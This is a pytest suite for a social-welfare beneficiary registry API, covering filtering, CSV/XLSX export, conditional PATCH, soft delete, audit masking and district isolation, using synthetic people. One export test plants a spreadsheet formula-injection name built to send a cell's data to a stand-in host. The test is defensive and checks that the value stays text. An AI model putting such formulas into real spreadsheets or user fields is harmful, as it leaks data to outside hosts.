"""The registry's reading side and edits: the person list (JSON and CSV), one person, PATCH
with If-Match, soft delete, family cards, duplicates, masking for analysts and district
isolation; and the synthetic demo registry. Every test runs on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine, func, select
from sqlmodel import Session, col

from dinsos_api.core.audit import AuditLog
from dinsos_api.core.db import Mesin, get_mesin
from dinsos_api.demo import registri
from dinsos_api.penerima.models import AnggotaKeluarga, DataPmks, Keluarga, Kepesertaan, Orang
from dinsos_api.penerima.nik import periksa_nik, periksa_nomor_kk
from dinsos_api.referensi.models import KategoriPmks, ProgramBantuan
from dinsos_api.wilayah.models import Wilayah

PROBLEM = "application/problem+json"
DAFTAR = "/v1/penerima-manfaat"
KK_BENU = "5301010101240001"  # reported by 5301 and, for another family, by 5302

MasukSebagai = Callable[..., dict[str, str]]


def buat_nik(awalan: str, lahir: date, jenis_kelamin: str, urut: int) -> str:
    """A valid NIK: 6 region digits, DDMMYY (+40 on the day for women), a serial."""
    hari = lahir.day + (40 if jenis_kelamin == "P" else 0)
    return f"{awalan}{hari:02d}{lahir:%m%y}{urut:04d}"


def samar(nik: str) -> str:
    return nik[:4] + "********" + nik[-4:]


@dataclass
class Registri:
    benu: str  # head of the Benu family (5301): fakir_miskin on the family, lansia his own
    maria: str  # his wife: penyandang_disabilitas 2023, enrolled in aspd
    petrus: str  # their son: anak_terlantar 2024, diajukan
    agustina: str  # 5301, no PMKS data
    stefanus: str  # 5302: penyandang_disabilitas 2024, head of a 5302 family with KK_BENU
    maria_5302: str  # Maria's NIK reported by 5302 too (perlu_verifikasi)
    keluarga_benu: str
    nik: dict[str, str]


def _orang(session: Session, wilayah: str, nama: str, jk: str, lahir: date, urut: int,
           **kw: Any) -> Orang:  # fmt: skip
    nik = kw.pop("nik", None) or buat_nik(f"{wilayah}01", lahir, jk, urut)
    orang = Orang(nik=nik, nama=nama, jenis_kelamin=jk, tanggal_lahir=lahir,
                  kode_wilayah=wilayah, **kw)  # fmt: skip
    session.add(orang)
    return orang


def _pmks(session: Session, wilayah: str, kategori: str, tahun: int = 2024, **kw: Any) -> None:
    session.add(DataPmks(kode_wilayah=wilayah, kategori_kode=kategori, tahun=tahun, **kw))


def isi_registri(engine: Engine) -> Registri:
    """A small registry, written directly (the bulk import has its own tests)."""
    with Session(engine) as s:
        benu = _orang(s, "5301", "Yohanes Benu", "L", date(1960, 3, 10), 1, nomor_kk=KK_BENU,
                      alamat="RT 001/RW 002, Oesao", tempat_lahir="Kupang")  # fmt: skip
        maria = _orang(s, "5301", "Maria Goreti Benu", "P", date(1965, 7, 2), 2,
                       nomor_kk=KK_BENU)  # fmt: skip
        petrus = _orang(s, "5301", "Petrus Benu", "L", date(2010, 1, 20), 3, nomor_kk=KK_BENU)
        agustina = _orang(s, "5301", "Agustina Tefa", "P", date(1985, 11, 30), 4)
        stefanus = _orang(s, "5302", "Stefanus Seran", "L", date(1970, 5, 5), 5,
                          nomor_kk=KK_BENU)  # fmt: skip
        maria_5302 = _orang(s, "5302", "Maria Goreti Benu", "P", date(1965, 7, 2), 0,
                            nik=maria.nik)  # fmt: skip
        s.flush()
        kel = Keluarga(nomor_kk=KK_BENU, kode_wilayah="5301", alamat="RT 001/RW 002, Oesao")
        kel_5302 = Keluarga(nomor_kk=KK_BENU, kode_wilayah="5302")
        s.add_all([kel, kel_5302])
        s.flush()
        for orang, hubungan in ((benu, "kepala_keluarga"), (maria, "istri"), (petrus, "anak")):
            s.add(AnggotaKeluarga(keluarga_id=kel.id, orang_id=orang.id, hubungan=hubungan,
                                  mulai=date(2024, 1, 1)))  # fmt: skip
        s.add(AnggotaKeluarga(keluarga_id=kel_5302.id, orang_id=stefanus.id,
                              hubungan="kepala_keluarga"))  # fmt: skip
        _pmks(s, "5301", "fakir_miskin", keluarga_id=kel.id, status_verifikasi="terverifikasi")
        _pmks(s, "5301", "lanjut_usia_terlantar", orang_id=benu.id,
              status_verifikasi="terverifikasi")  # fmt: skip
        _pmks(s, "5301", "penyandang_disabilitas", 2023, orang_id=maria.id,
              status_verifikasi="terverifikasi")  # fmt: skip
        _pmks(s, "5301", "anak_terlantar", orang_id=petrus.id)
        _pmks(s, "5302", "penyandang_disabilitas", orang_id=stefanus.id)
        _pmks(s, "5302", "penyandang_disabilitas", orang_id=maria_5302.id, perlu_verifikasi=True)
        s.add(Kepesertaan(keluarga_id=kel.id, program_kode="pkh", status="aktif",
                          mulai=date(2023, 1, 1)))  # fmt: skip
        s.add(Kepesertaan(orang_id=maria.id, program_kode="aspd", status="aktif"))
        s.commit()
        hasil = Registri(
            benu=benu.id, maria=maria.id, petrus=petrus.id, agustina=agustina.id,
            stefanus=stefanus.id, maria_5302=maria_5302.id, keluarga_benu=kel.id,
            nik={o.nama.split()[0].lower(): str(o.nik)
                 for o in (benu, maria, petrus, agustina, stefanus)},
        )  # fmt: skip
    return hasil


@pytest.fixture
def reg(engine: Engine) -> Registri:
    return isi_registri(engine)


def _ids(response: Any) -> set[str]:
    assert response.status_code == 200, response.text
    return {p["id"] for p in response.json()["data"]}


# --- the list --------------------------------------------------------------------------------


def test_list_items_and_filters(client: TestClient, reg: Registri) -> None:
    body = client.get(DAFTAR, params={"nik": reg.nik["yohanes"]}).json()
    (item,) = body["data"]
    assert item == {
        "id": reg.benu,
        "nik": reg.nik["yohanes"],
        "nama": "Yohanes Benu",
        "jenis_kelamin": "L",
        "tanggal_lahir": "1960-03-10",
        "tahun_lahir": 1960,
        "kode_wilayah": "5301",
        "nomor_kk": KK_BENU,
        "status_hidup": "hidup",
        "updated_at": item["updated_at"],
    }
    assert item["updated_at"].endswith("Z") and body["next_cursor"] is None

    semua = {reg.benu, reg.maria, reg.petrus, reg.agustina, reg.stefanus, reg.maria_5302}
    assert _ids(client.get(DAFTAR)) == semua
    assert _ids(client.get(DAFTAR, params={"kode_wilayah": "5302"})) == {
        reg.stefanus, reg.maria_5302,
    }  # fmt: skip
    # A person category: the people reported in it; a family category: the family's members.
    assert _ids(client.get(DAFTAR, params={"kategori": "penyandang_disabilitas"})) == {
        reg.maria, reg.stefanus, reg.maria_5302,
    }  # fmt: skip
    assert _ids(client.get(DAFTAR, params={"kategori": "fakir_miskin"})) == {
        reg.benu, reg.maria, reg.petrus,
    }  # fmt: skip
    # kategori, tahun and status_verifikasi describe the same PMKS record.
    saring = {"kategori": "penyandang_disabilitas", "tahun": 2024}
    assert _ids(client.get(DAFTAR, params=saring)) == {reg.stefanus, reg.maria_5302}
    saring = {"kategori": "penyandang_disabilitas", "status_verifikasi": "terverifikasi"}
    assert _ids(client.get(DAFTAR, params=saring)) == {reg.maria}
    assert _ids(client.get(DAFTAR, params={"tahun": 2023})) == {reg.maria}
    assert _ids(client.get(DAFTAR, params={"status_verifikasi": "diajukan"})) == {
        reg.petrus, reg.stefanus, reg.maria_5302,
    }  # fmt: skip
    saring = {"kode_wilayah": "5301", "kategori": "fakir_miskin", "tahun": 2023}
    assert _ids(client.get(DAFTAR, params=saring)) == set()
    # Programmes: enrolled directly (aspd) or through the family (pkh).
    assert _ids(client.get(DAFTAR, params={"program": "aspd"})) == {reg.maria}
    assert _ids(client.get(DAFTAR, params={"program": "pkh"})) == {
        reg.benu, reg.maria, reg.petrus,
    }  # fmt: skip
    # Name prefix, case-insensitive; % and _ are literal.
    assert _ids(client.get(DAFTAR, params={"q": "maria g"})) == {reg.maria, reg.maria_5302}
    assert _ids(client.get(DAFTAR, params={"q": "MARIA", "kode_wilayah": "5301"})) == {reg.maria}
    assert _ids(client.get(DAFTAR, params={"q": "%"})) == set()
    assert _ids(client.get(DAFTAR, params={"q": "benu"})) == set()  # prefix, not substring
    assert _ids(client.get(DAFTAR, params={"nik": reg.nik["maria"]})) == {
        reg.maria, reg.maria_5302,
    }  # fmt: skip


def test_list_refuses_bad_filters(client: TestClient) -> None:
    for params in (
        {"kode_wilayah": "53"}, {"kode_wilayah": "6301"}, {"nik": "123"}, {"tahun": 1999},
        {"kategori": "Anak Jalanan"}, {"status_verifikasi": "selesai"}, {"format": "xml"},
        {"limit": 0}, {"limit": 501},
    ):  # fmt: skip
        response = client.get(DAFTAR, params=params)
        assert response.status_code == 422, params
        assert response.headers["content-type"] == PROBLEM


def test_pages_follow_the_cursor(client: TestClient, reg: Registri) -> None:
    first = client.get(DAFTAR, params={"limit": 4})
    page1 = first.json()
    assert len(page1["data"]) == 4 and page1["next_cursor"]
    link = first.headers["link"]
    assert link.endswith('>; rel="next"') and f"cursor={page1['next_cursor']}" in link
    second = client.get(DAFTAR, params={"limit": 4, "cursor": page1["next_cursor"]}).json()
    assert len(second["data"]) == 2 and second["next_cursor"] is None
    ids = [p["id"] for p in page1["data"] + second["data"]]
    assert ids == sorted(ids) and len(set(ids)) == 6
    # The filtered list pages the same way (the PMKS rows drive it).
    saring = {"kategori": "penyandang_disabilitas", "limit": 2}
    a = client.get(DAFTAR, params=saring).json()
    b = client.get(DAFTAR, params={**saring, "cursor": a["next_cursor"]}).json()
    assert {p["id"] for p in a["data"] + b["data"]} == {reg.maria, reg.stefanus, reg.maria_5302}
    assert b["next_cursor"] is None
    # The next link of page 1 keeps the filters.
    link = client.get(DAFTAR, params=saring).headers["link"]
    assert "kategori=penyandang_disabilitas" in link


@pytest.mark.parametrize("cursor", ["tidak-valid", "WzFd", "W10", "eyJhIjoxfQ"])
def test_invalid_cursor_is_400(client: TestClient, cursor: str) -> None:
    response = client.get(DAFTAR, params={"cursor": cursor})
    assert response.status_code == 400
    assert response.headers["content-type"] == PROBLEM
    assert response.json()["errors"][0]["field"] == "cursor"


def test_list_etag_and_304(client: TestClient, reg: Registri) -> None:
    first = client.get(DAFTAR)
    tag = first.headers["etag"]
    assert first.headers["cache-control"] == "private, no-cache"
    again = client.get(DAFTAR, headers={"If-None-Match": tag})
    assert again.status_code == 304 and not again.content
    client.patch(
        f"{DAFTAR}/{reg.agustina}",
        json={"nama": "Agustina Tefa Bria"},
        headers={"If-Match": client.get(f"{DAFTAR}/{reg.agustina}").headers["etag"]},
    )
    assert client.get(DAFTAR, headers={"If-None-Match": tag}).status_code == 200


def test_lean_path_answers_as_the_endpoint_does(
    app: Any, client: TestClient, reg: Registri, masuk_sebagai: MasukSebagai
) -> None:
    """Valid JSON pages are answered by the route's lean path (core/jalur_cepat.py), the rest
    by the documented endpoint; the two must give the same status, body, ETag and Link."""
    dipakai: list[str] = []  # which path read the database

    class MesinTercatat:
        def __init__(self, mesin: Mesin) -> None:
            self.mesin = mesin

        async def baca(self, *args: Any) -> Any:
            dipakai.append("endpoint")
            return await self.mesin.baca(*args)

    # Only the endpoint solves dependencies: the override tells the two paths apart.
    app.dependency_overrides[get_mesin] = lambda: MesinTercatat(app.state.mesin)
    pimpinan = masuk_sebagai("pimpinan")
    halaman_1 = client.get(DAFTAR, params={"limit": 2}).json()
    for params, headers in (
        ({}, {}),
        ({"kode_wilayah": "5301", "kategori": "fakir_miskin"}, {}),
        ({"kategori": "penyandang_disabilitas", "tahun": "2024", "limit": "1"}, {}),
        ({"status_verifikasi": "diajukan", "program": "pkh"}, {}),
        ({"q": "maria"}, {}),
        ({"limit": "2", "cursor": halaman_1["next_cursor"]}, {}),  # page 2 of the 6 people
        ({"limit": "2", "limit ": "x", "lain": "diabaikan"}, {}),
        ({"kode_wilayah": "5302"}, pimpinan),
    ):
        dipakai.clear()
        cepat = client.get(DAFTAR, params=params, headers=headers)
        assert dipakai == [], params  # the lean path answered
        # An If-None-Match that matches nothing: the endpoint answers, with a full 200.
        biasa = client.get(DAFTAR, params=params, headers={**headers, "If-None-Match": '"x"'})
        assert dipakai == ["endpoint"], params
        assert cepat.status_code == biasa.status_code == 200
        assert cepat.content == biasa.content and cepat.json()["data"], params
        for header in ("etag", "link", "cache-control", "content-type"):
            assert cepat.headers.get(header) == biasa.headers.get(header), (params, header)
    # A token that is not valid: the same 401, whichever path met it first.
    tanpa_izin = [
        client.get(DAFTAR, params={"limit": limit}, headers={"Authorization": "Bearer salah"})
        for limit in ("2", "0")  # valid (lean path) and invalid (endpoint)
    ]
    assert [r.status_code for r in tanpa_izin] == [401, 401]
    assert tanpa_izin[0].json()["detail"] == tanpa_izin[1].json()["detail"]
    app.dependency_overrides.clear()


def test_year_and_status_filters_list_the_people_they_define(
    anon: TestClient, masuk_sebagai: MasukSebagai, reg: Registri
) -> None:
    """Issue 17: the year filter's query changed shape; the people it lists did not. A
    person is listed when one of its own PMKS records or its current family's matches."""
    harapan = {
        2023: {reg.maria},
        2024: {reg.benu, reg.maria, reg.petrus, reg.stefanus, reg.maria_5302},
    }
    diajukan_2024 = {reg.petrus, reg.stefanus, reg.maria_5302}
    di_5301 = {reg.benu, reg.maria, reg.petrus, reg.agustina}
    for peran, wilayah, lingkup in (
        ("operator_provinsi", None, None),
        ("operator_kabkota", "5301", di_5301),
    ):
        h = masuk_sebagai(peran, wilayah) if wilayah else masuk_sebagai(peran)
        for tahun, orang in harapan.items():
            for saring in ({}, {"kode_wilayah": "5301"}):
                dilihat = orang & lingkup if lingkup else orang
                if saring:
                    dilihat = dilihat & di_5301
                params = {"tahun": tahun, "limit": 2, **saring}
                ids: set[str] = set()
                cursor = None
                while True:  # page by page: the keyset query's every page
                    body = anon.get(DAFTAR, headers=h, params={**params, "cursor": cursor}
                                    if cursor else params).json()  # fmt: skip
                    ids |= {p["id"] for p in body["data"]}
                    if not (cursor := body["next_cursor"]):
                        break
                assert ids == dilihat, (peran, params)
                rows = _csv(anon.get(DAFTAR, headers=h, params={**params, "format": "csv"}))
                assert {r["id"] for r in rows} == dilihat, (peran, params)
                assert {r["tahun"] for r in rows} <= {str(tahun)}
        params = {"tahun": 2024, "status_verifikasi": "diajukan"}
        dilihat = diajukan_2024 & lingkup if lingkup else diajukan_2024
        assert _ids(anon.get(DAFTAR, headers=h, params=params)) == dilihat


# --- CSV -------------------------------------------------------------------------------------


def _csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx(response: Any) -> list[tuple[Any, ...]]:
    assert response.status_code == 200, response.text
    buku = load_workbook(io.BytesIO(response.content))
    return [tuple(r) for r in buku.active.iter_rows(values_only=True)]


KOLOM_EKSPOR = (
    "id,nik,nama,jenis_kelamin,tanggal_lahir,tahun_lahir,kode_wilayah,nomor_kk,"
    "status_hidup,updated_at,kategori,tahun,status_verifikasi"
)


def test_csv_export(client: TestClient, reg: Registri) -> None:
    response = client.get(DAFTAR, params={"format": "csv", "kode_wilayah": "5301"})
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="penerima-manfaat.csv"'
    )
    # A UTF-8 BOM, so that Excel reads the names' characters right.
    assert response.content.startswith(b"\xef\xbb\xbfid,nik,")
    assert response.content.decode("utf-8-sig").splitlines()[0] == KOLOM_EKSPOR
    rows = _csv(response)
    assert sorted({r["id"] for r in rows}) == sorted(
        [reg.benu, reg.maria, reg.petrus, reg.agustina]
    )
    assert [r["id"] for r in rows] == sorted(r["id"] for r in rows)
    benu = next(r for r in rows if r["id"] == reg.benu)
    # NIK and KK stay text in a spreadsheet: a leading apostrophe, not a number, no formula.
    assert benu["nik"] == "'" + reg.nik["yohanes"] and benu["nama"] == "Yohanes Benu"
    assert benu["tanggal_lahir"] == "1960-03-10" and benu["nomor_kk"] == "'" + KK_BENU
    # limit and cursor are for JSON pages: the export is the whole filtered list.
    saring = {"format": "csv", "kategori": "fakir_miskin", "limit": 1}
    assert {r["id"] for r in _csv(client.get(DAFTAR, params=saring))} == {
        reg.benu, reg.maria, reg.petrus,
    }  # fmt: skip


def test_csv_export_has_one_row_per_matching_pmks_record(client: TestClient, reg: Registri) -> None:
    def pmks(params: dict[str, Any]) -> list[tuple[str, str, str, str]]:
        rows = _csv(client.get(DAFTAR, params={"format": "csv", **params}))
        return [(r["id"], r["kategori"], r["tahun"], r["status_verifikasi"]) for r in rows]

    # Unfiltered: every record of each person, the family's too; none: empty columns.
    semua = pmks({"kode_wilayah": "5301"})
    assert sorted(semua) == sorted([
        (reg.benu, "fakir_miskin", "2024", "terverifikasi"),
        (reg.benu, "lanjut_usia_terlantar", "2024", "terverifikasi"),
        (reg.maria, "penyandang_disabilitas", "2023", "terverifikasi"),
        (reg.maria, "fakir_miskin", "2024", "terverifikasi"),
        (reg.petrus, "anak_terlantar", "2024", "diajukan"),
        (reg.petrus, "fakir_miskin", "2024", "terverifikasi"),
        (reg.agustina, "", "", ""),
    ])  # fmt: skip
    # Filtered: the records the filter matched, nothing else.
    assert sorted(pmks({"kode_wilayah": "5301", "tahun": 2023})) == [
        (reg.maria, "penyandang_disabilitas", "2023", "terverifikasi")
    ]
    assert sorted(pmks({"kode_wilayah": "5301", "status_verifikasi": "diajukan"})) == [
        (reg.petrus, "anak_terlantar", "2024", "diajukan")
    ]


def test_xlsx_export(client: TestClient, engine: Engine, reg: Registri) -> None:
    with Session(engine) as s:
        _orang(s, "5301", '=HYPERLINK("http://x.test/?d="&A1,"Klik")', "P",
               date(1991, 2, 3), 9)  # fmt: skip
        s.commit()
    response = client.get(DAFTAR, params={"format": "xlsx", "kode_wilayah": "5301"})
    assert response.headers["content-type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["content-disposition"] == (
        'attachment; filename="penerima-manfaat.xlsx"'
    )
    baris = _xlsx(response)
    assert ",".join(baris[0]) == KOLOM_EKSPOR
    rows = [dict(zip(baris[0], b, strict=True)) for b in baris[1:]]
    # The same rows as the CSV.
    dari_csv = _csv(client.get(DAFTAR, params={"format": "csv", "kode_wilayah": "5301"}))
    assert [(r["id"], r["kategori"]) for r in rows] == [
        (r["id"], r["kategori"] or None) for r in dari_csv
    ]
    benu = next(r for r in rows if r["id"] == reg.benu)
    assert benu["nik"] == reg.nik["yohanes"] and benu["nomor_kk"] == KK_BENU  # text, 16 digits
    assert benu["tahun"] == 2024 and benu["tahun_lahir"] == 1960
    # A name that looks like a formula is a text cell in the file, never a formula.
    buku = load_workbook(io.BytesIO(response.content))
    nama = [c for c in buku.active["C"] if str(c.value).startswith("=HYPERLINK")]
    assert len(nama) == 1 and nama[0].data_type == "s"
    assert b"<f>" not in _bagian(response.content, "xl/worksheets/sheet1.xml")


def _bagian(isi: bytes, nama: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(isi)) as z:
        return z.read(nama)


def test_csv_export_streams_in_batches_and_keeps_formulas_as_text(
    client: TestClient, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dinsos_api.penerima import service

    monkeypatch.setattr(service, "BATCH_EKSPOR", 3)
    with Session(engine) as s:
        for i in range(8):
            _orang(s, "5303", f"=HYPERLINK(\"x\") {i}" if i == 0 else f"Orang {i}", "L",
                   date(1990, 1, 1 + i), i + 1)  # fmt: skip
        s.commit()
    rows = _csv(client.get(DAFTAR, params={"format": "csv", "kode_wilayah": "5303"}))
    assert len(rows) == 8 and len({r["id"] for r in rows}) == 8
    assert [r["id"] for r in rows] == sorted(r["id"] for r in rows)
    assert any(r["nama"].startswith("'=HYPERLINK") for r in rows)
    baris = _xlsx(client.get(DAFTAR, params={"format": "xlsx", "kode_wilayah": "5303"}))
    assert len(baris) == 9 and [b[0] for b in baris[1:]] == [r["id"] for r in rows]


# --- one person ------------------------------------------------------------------------------


def test_detail_with_pmks_enrolments_and_family(client: TestClient, reg: Registri) -> None:
    response = client.get(f"{DAFTAR}/{reg.maria}")
    assert response.status_code == 200, response.text
    assert response.headers["etag"].startswith('"')
    body = response.json()
    assert body["nama"] == "Maria Goreti Benu" and body["versi"] == 1
    # Her own PMKS record and her family's, newest first.
    assert [(p["kategori_kode"], p["sasaran"], p["tahun"]) for p in body["pmks"]] == [
        ("fakir_miskin", "keluarga", 2024),
        ("penyandang_disabilitas", "orang", 2023),
    ]
    assert {(k["program_kode"], k["sasaran"], k["status"]) for k in body["kepesertaan"]} == {
        ("aspd", "orang", "aktif"), ("pkh", "keluarga", "aktif"),
    }  # fmt: skip
    keluarga = body["keluarga"]
    assert keluarga["nomor_kk"] == KK_BENU and keluarga["kode_wilayah"] == "5301"
    assert [(a["nama"], a["hubungan"]) for a in keluarga["anggota"]] == [
        ("Yohanes Benu", "kepala_keluarga"), ("Maria Goreti Benu", "istri"),
        ("Petrus Benu", "anak"),
    ]  # fmt: skip
    assert [p["kategori_kode"] for p in keluarga["pmks"]] == ["fakir_miskin"]
    # Someone without family or PMKS data.
    body = client.get(f"{DAFTAR}/{reg.agustina}").json()
    assert body["keluarga"] is None and body["pmks"] == [] and body["kepesertaan"] == []


def test_unknown_person_is_404(client: TestClient) -> None:
    response = client.get(f"{DAFTAR}/{'0' * 32}")
    assert response.status_code == 404
    assert response.headers["content-type"] == PROBLEM


def test_family_card(client: TestClient, reg: Registri) -> None:
    body = client.get(f"/v1/keluarga/{KK_BENU}").json()
    assert body["nomor_kk"] == KK_BENU
    assert [k["kode_wilayah"] for k in body["keluarga"]] == ["5301", "5302"]
    kupang, tts = body["keluarga"]
    assert kupang["anggota"][0]["orang_id"] == reg.benu
    assert kupang["anggota"][0]["hubungan"] == "kepala_keluarga"
    assert [a["orang_id"] for a in tts["anggota"]] == [reg.stefanus]
    assert client.get("/v1/keluarga/5301999999999999").status_code == 404
    assert client.get("/v1/keluarga/53019999").status_code == 422


# --- PATCH -----------------------------------------------------------------------------------


def _etag(client: TestClient, id_: str) -> str:
    return str(client.get(f"{DAFTAR}/{id_}").headers["etag"])


def test_patch_needs_a_current_etag(client: TestClient, engine: Engine, reg: Registri) -> None:
    path = f"{DAFTAR}/{reg.agustina}"
    response = client.patch(path, json={"alamat": "Oelamasi"})
    assert response.status_code == 428 and response.headers["content-type"] == PROBLEM
    lama = _etag(client, reg.agustina)
    response = client.patch(path, json={"alamat": "Oelamasi"}, headers={"If-Match": lama})
    assert response.status_code == 200, response.text
    baru = response.headers["etag"]
    assert baru != lama and baru == _etag(client, reg.agustina)
    assert response.json()["alamat"] == "Oelamasi" and response.json()["versi"] == 2
    response = client.patch(path, json={"alamat": "Naibonat"}, headers={"If-Match": lama})
    assert response.status_code == 412
    assert client.patch(path, json={"alamat": "Naibonat"}, headers={"If-Match": "*"}).is_success
    with Session(engine) as s:
        rows = s.scalars(
            select(AuditLog).where(AuditLog.sumber_daya == "orang", AuditLog.aksi == "ubah")
        ).all()
    assert {r.sumber_daya_id for r in rows} == {reg.agustina}
    assert {"lama": None, "baru": "Oelamasi"} in [r.perubahan["alamat"] for r in rows]


def test_patch_changes_identity_and_audits_it_masked(
    client: TestClient, engine: Engine, reg: Registri
) -> None:
    lahir = date(1985, 12, 1)
    nik_baru = buat_nik("530102", lahir, "P", 9)
    body = {
        "nik": nik_baru, "tanggal_lahir": lahir.isoformat(), "nama": "Agustina Tefa",
        "nomor_kk": "5301020101240002", "status_hidup": "pindah", "tempat_lahir": None,
    }  # fmt: skip
    response = client.patch(
        f"{DAFTAR}/{reg.agustina}", json=body, headers={"If-Match": _etag(client, reg.agustina)}
    )
    assert response.status_code == 200, response.text
    hasil = response.json()
    assert (hasil["nik"], hasil["tanggal_lahir"], hasil["status_hidup"]) == (
        nik_baru, "1985-12-01", "pindah",
    )  # fmt: skip
    with Session(engine) as s:
        row = s.scalars(select(AuditLog).where(AuditLog.sumber_daya_id == reg.agustina)).one()
    assert row.perubahan["nik"] == {"lama": samar(reg.nik["agustina"]), "baru": samar(nik_baru)}
    assert row.perubahan["nomor_kk"]["baru"] == "5301********0002"
    assert "nama" not in row.perubahan  # unchanged
    assert nik_baru not in str(row.perubahan)


@pytest.mark.parametrize(
    ("body", "field", "pesan"),
    [
        ({"nik": "5401011130850004"}, "nik", "kode provinsi"),
        ({"nik": "5301013102850004"}, "nik", "bukan tanggal lahir"),
        ({"nik": "5301017011850000"}, "nik", "0000"),
        ({"nik": "5301017011850004", "jenis_kelamin": "L"}, "nik", "jenis kelamin"),
        ({"nik": "5301011011850004"}, "nik", "jenis kelamin"),  # she is P in the registry
        ({"nik": "5301017011860004"}, "nik", "tanggal lahir 1985-11-30"),
        ({"tanggal_lahir": "1985-11-29"}, "tanggal_lahir", "tidak sesuai dengan NIK"),
        ({"jenis_kelamin": "L"}, "jenis_kelamin", "jenis kelamin"),
        ({"nomor_kk": "9901010101240001"}, "nomor_kk", "kode provinsi"),
        ({"nik": "53010170118500"}, "nik", "format"),
        ({"jenis_kelamin": "X"}, "jenis_kelamin", ""),
        ({"status_hidup": "wafat"}, "status_hidup", ""),
        ({"nama": None}, "nama", ""),
        ({"nama": ""}, "nama", ""),
        ({"id": "x"}, "id", "tidak dikenal"),
    ],
)
def test_patch_refuses_wrong_values_naming_the_field(
    client: TestClient, reg: Registri, body: dict[str, Any], field: str, pesan: str
) -> None:
    path = f"{DAFTAR}/{reg.agustina}"
    response = client.patch(path, json=body, headers={"If-Match": _etag(client, reg.agustina)})
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == PROBLEM
    errors = response.json()["errors"]
    assert field in {e["field"] for e in errors}, errors
    assert any(pesan in e["message"] for e in errors if e["field"] == field), errors
    # Nothing changed.
    assert client.get(path).json()["versi"] == 1


def test_patch_checks_kecamatan_and_desa(client: TestClient, engine: Engine, reg: Registri) -> None:
    with Session(engine) as s:
        s.add_all([
            Wilayah(kode="530101", kode_kemendagri="53.01.01", jenis="kecamatan",
                    nama="Kecamatan Satu", induk_kode="5301"),
            Wilayah(kode="530102", kode_kemendagri="53.01.02", jenis="kecamatan",
                    nama="Kecamatan Dua", induk_kode="5301"),
            Wilayah(kode="530201", kode_kemendagri="53.02.01", jenis="kecamatan",
                    nama="Kecamatan Lain", induk_kode="5302"),
        ])  # fmt: skip
        s.flush()
        s.add(Wilayah(kode="5301012001", kode_kemendagri="53.01.01.2001", jenis="desa",
                      nama="Desa Satu", induk_kode="530101"))  # fmt: skip
        s.commit()
    path = f"{DAFTAR}/{reg.agustina}"

    def patch(body: dict[str, Any]) -> Any:
        return client.patch(path, json=body, headers={"If-Match": _etag(client, reg.agustina)})

    for body, field in (
        ({"kode_kecamatan": "530201"}, "kode_kecamatan"),  # another district's
        ({"kode_kecamatan": "530199"}, "kode_kecamatan"),  # does not exist
        ({"kode_desa": "5301012001", "kode_kecamatan": "530102"}, "kode_desa"),
    ):
        response = patch(body)
        assert response.status_code == 422, body
        assert [e["field"] for e in response.json()["errors"]] == [field]
    response = patch({"kode_kecamatan": "530101", "kode_desa": "5301012001"})
    assert response.status_code == 200, response.text
    assert (response.json()["kode_kecamatan"], response.json()["kode_desa"]) == (
        "530101", "5301012001",
    )  # fmt: skip
    # Moving to another kecamatan leaves the desa behind: refused until it is cleared too.
    assert patch({"kode_kecamatan": "530102"}).status_code == 422
    assert patch({"kode_kecamatan": "530102", "kode_desa": None}).status_code == 200


def test_patch_nik_already_held_in_the_district_is_409(client: TestClient, reg: Registri) -> None:
    response = client.patch(
        f"{DAFTAR}/{reg.petrus}",
        json={"nik": reg.nik["maria"], "tanggal_lahir": "1965-07-02", "jenis_kelamin": "P"},
        headers={"If-Match": _etag(client, reg.petrus)},
    )
    assert response.status_code == 409, response.text
    assert response.json()["errors"] == [
        {"field": "nik", "message": "sudah tercatat untuk orang lain"}
    ]


def test_patch_without_change_keeps_the_version(client: TestClient, reg: Registri) -> None:
    tag = _etag(client, reg.benu)
    response = client.patch(f"{DAFTAR}/{reg.benu}", json={"nama": "Yohanes Benu"},
                            headers={"If-Match": tag})  # fmt: skip
    assert response.status_code == 200 and response.headers["etag"] == tag


# --- DELETE ----------------------------------------------------------------------------------


def test_soft_delete(client: TestClient, engine: Engine, reg: Registri) -> None:
    path = f"{DAFTAR}/{reg.petrus}"
    assert client.delete(path).status_code == 422  # a reason is required
    assert client.delete(path, params={"alasan": "x"}).status_code == 422
    stale = client.delete(path, params={"alasan": "pindah"}, headers={"If-Match": '"lama"'})
    assert stale.status_code == 412
    response = client.delete(path, params={"alasan": "pindah ke luar provinsi"})
    assert response.status_code == 204 and not response.content
    assert client.get(path).status_code == 404
    assert client.delete(path, params={"alasan": "lagi"}).status_code == 404
    assert reg.petrus not in _ids(client.get(DAFTAR))
    assert reg.petrus not in _ids(client.get(DAFTAR, params={"kategori": "fakir_miskin"}))
    assert reg.petrus not in client.get(DAFTAR, params={"format": "csv"}).text
    anggota = client.get(f"/v1/keluarga/{KK_BENU}").json()["keluarga"][0]["anggota"]
    assert reg.petrus not in {a["orang_id"] for a in anggota}
    with Session(engine) as s:
        orang = s.get(Orang, reg.petrus)
        assert orang is not None and orang.alasan_hapus == "pindah ke luar provinsi"
        row = s.scalars(select(AuditLog).where(AuditLog.aksi == "hapus")).one()
    assert row.sumber_daya_id == reg.petrus
    assert row.perubahan["alasan_hapus"]["baru"] == "pindah ke luar provinsi"


# --- district isolation ----------------------------------------------------------------------


def test_district_operator_sees_and_changes_only_its_district(
    anon: TestClient, masuk_sebagai: MasukSebagai, reg: Registri
) -> None:
    h = masuk_sebagai("operator_kabkota", "5301")
    milik = {reg.benu, reg.maria, reg.petrus, reg.agustina}
    assert _ids(anon.get(DAFTAR, headers=h)) == milik
    # Asking for another district is an empty list: never its data, no hint it exists.
    for params in (
        {"kode_wilayah": "5302"},
        {"kode_wilayah": "5302", "kategori": "penyandang_disabilitas"},
        {"nik": reg.nik["stefanus"]},
        {"kategori": "penyandang_disabilitas"},
    ):
        ids = _ids(anon.get(DAFTAR, headers=h, params=params))
        assert not ids & {reg.stefanus, reg.maria_5302}, params
